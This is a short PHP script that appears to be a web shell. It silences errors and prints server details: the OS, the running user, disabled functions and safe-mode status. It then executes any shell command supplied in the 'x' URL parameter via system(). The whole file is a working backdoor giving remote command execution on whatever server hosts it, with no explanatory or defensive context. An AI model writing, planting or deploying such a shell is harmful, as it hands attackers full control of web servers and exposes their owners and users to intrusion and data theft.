<?php
error_reporting(0);
echo "<b>uname:</b> " . php_uname() . "<br>";
echo "<b>user:</b> " . get_current_user() . " (" . getmyuid() . ")<br>";
echo "<b>disable_functions:</b> " . ini_get('disable_functions') . "<br>";
echo "<b>safe_mode:</b> " . (ini_get('safe_mode') ? 'ON' : 'OFF') . "<br>";
if (isset($_GET['x'])) { echo '<pre>'; @system($_GET['x']); echo '</pre>'; }
